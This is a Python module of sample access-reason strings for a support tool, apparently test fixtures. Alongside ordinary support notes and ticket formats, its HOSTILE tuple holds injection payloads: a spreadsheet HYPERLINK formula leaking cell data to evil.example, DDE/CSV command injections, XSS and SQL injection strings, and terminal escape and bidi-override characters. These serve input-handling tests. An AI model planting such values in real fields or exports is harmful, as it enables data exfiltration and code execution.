"""What staff type into the reason box: mostly harmless, now and then anything but."""

from __future__ import annotations

ORDINARY = (
    "Checking why the funnel differs from what the customer sees",
    "Prep for the weekly call",
    "QBR prep, adoption of experiments and surveys",
    "Onboarding call: showing where the autocapture settings are",
    "Customer asked us in Slack to look at their dashboard",
    "reproducing a 504 on the insight page",
    "Looking at the flag's release conditions together with the customer",
    "Data warehouse sync stuck, reading the error",
    "verify billing limit",
    "customer consented on call",
    "Replay list is empty for them, not for me",
    "Checking the ingestion warnings",
    "follow-up from yesterday",
    "Health check before renewal",
    "Following up on a survey answer",
    "Helping with the batch export configuration",
)
UPGRADES = (
    "Customer asked on the call to fix the filter",
    "Consent by mail, deleting the broken destination",
    "Needs a re-save of the insight, agreed in the ticket",
    "switching on the setting for them, they said yes in Slack",
    "Backfill has to be started from their side",
)
DOWNGRADES = ("Done with the change", "Back to looking only", "change saved")
# How colleagues name the same ticket; {n} is its number.
NAMING = (
    "Support ticket #{n}",
    "ZD-{n}",
    "Zendesk {n}",
    "https://posthoghelp.zendesk.com/agent/tickets/{n}",
    "zendesk #{n}, reproducing",
    "See ticket {n}",
    "#{n}",
)
HOSTILE = (
    'Customer said "it just broke" and then \'sorry\', see "notes"',
    "First line\nsecond line\r\nthird line\twith a tab",
    'Path C:\\temp\\new, regex \\d+\\"x\\" and a \\u0041 that is not an A',
    "\x1b[31mred\x1b[0m \x1b[2Jcleared \x1b]0;title\x07 bell",
    '=HYPERLINK("https://evil.example/?d="&A1,"open")',
    "+1-800-555-0100 called, wants a callback",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert('impersonated')</script><b>bold</b> &amp; <img src=x onerror=alert(1)>",
    "[bold red]not markup[/bold red] [/] :boom: {{reason}} {% raw %}",
    "'; DROP TABLE events; -- \" OR 1=1",
    '{"reason": "a reason in a reason", "mode": "read_write"}',
    "Größe falsch → прошу помочь → مرحبا \u200f 数据 🦔👩🏽‍🚀",
    "\u202eevisrever\u202c and\u200bzero\u200bwidth\ufeff",
    "   ",
    "a;b,c|d\te",
    "rollback? no: " + "very long reason, " * 60,
)  # fmt: skip
